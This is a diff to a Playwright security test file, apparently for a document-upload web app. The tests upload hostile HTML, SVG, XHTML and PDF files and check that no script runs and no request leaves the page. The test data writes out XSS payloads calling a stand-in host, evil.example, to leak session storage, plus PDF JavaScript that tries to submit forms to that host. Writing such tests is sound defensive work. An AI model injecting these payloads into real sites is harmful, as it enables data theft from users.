@@ -39,7 +39,7 @@ TEXT_TAGS = (
     "td",
     "strong",
 )
-SCRIPT = "fetch('//evil.example/'+localStorage.length);document.title='owned';alert(1)"
+SCRIPT = "fetch('//evil.example/'+sessionStorage.length);document.title='owned';alert(1)"
 MARKUP = f'<img src=//evil.example/x onerror="{SCRIPT}"><script>{SCRIPT}</script><svg onload="{SCRIPT}"/>'
 
 
@@ -145,7 +145,7 @@ def test_the_script_of_a_pdf_sees_nothing_of_the_page_and_reaches_nobody(
 ) -> None:
     """The browser's own reader runs it, out of reach of the page; it may open a dialog."""
     register(page)
-    seen = "app.alert([typeof localStorage, typeof document, typeof fetch, typeof XMLHttpRequest].join());"
+    seen = "app.alert([typeof sessionStorage, typeof document, typeof fetch, typeof XMLHttpRequest].join());"
     tries = "try{this.submitForm('http://evil.example/');}catch(e){}try{app.launchURL('http://evil.example/');}catch(e){}"
     upload(page, "hostile.pdf", hostile_pdf(f"{seen}{tries}app.alert('the end');"))
     row = page.locator(".row", has_text="hostile.pdf")
@@ -190,4 +190,24 @@ def test_a_hostile_document_runs_nothing_in_the_page(
         expect(page.locator(shown)).to_be_visible()
         photograph(page, name.replace(".", "-"))
     nothing_ran(page)
+    assert leaving == []
+
+
+@pytest.mark.parametrize("name", ["opened.html", "opened.svg", "opened.xhtml", "opened.xml"])
+def test_a_document_that_is_opened_by_its_address_is_text(
+    page: Page, register: Callable[[Page], str], leaving: list[str], name: str
+) -> None:
+    """No browser sends the token by itself; if one did, the document would still not run in our origin."""
+    register(page)
+    with page.expect_response("**/api/documents*") as listed:
+        upload(page, name, f'<html xmlns="http://www.w3.org/1999/xhtml">{MARKUP}</html>'.encode())
+    authorization = listed.value.request.all_headers()["authorization"]
+    expect(page.locator(".row", has_text=name)).to_have_attribute("data-status", re.compile("indexed|failed"))
+    found = page.request.get("/api/documents", headers={"Authorization": authorization}).json()
+    (document,) = [each for each in found["documents"] if each["name"].endswith(name)]
+    page.set_extra_http_headers({"Authorization": authorization})
+    shown = page.goto(f"/api/documents/{document['id']}/content")
+    assert shown is not None
+    assert shown.headers["content-type"] == "text/plain; charset=utf-8"
+    assert page.locator("script, img, svg").count() == 0
     assert leaving == []
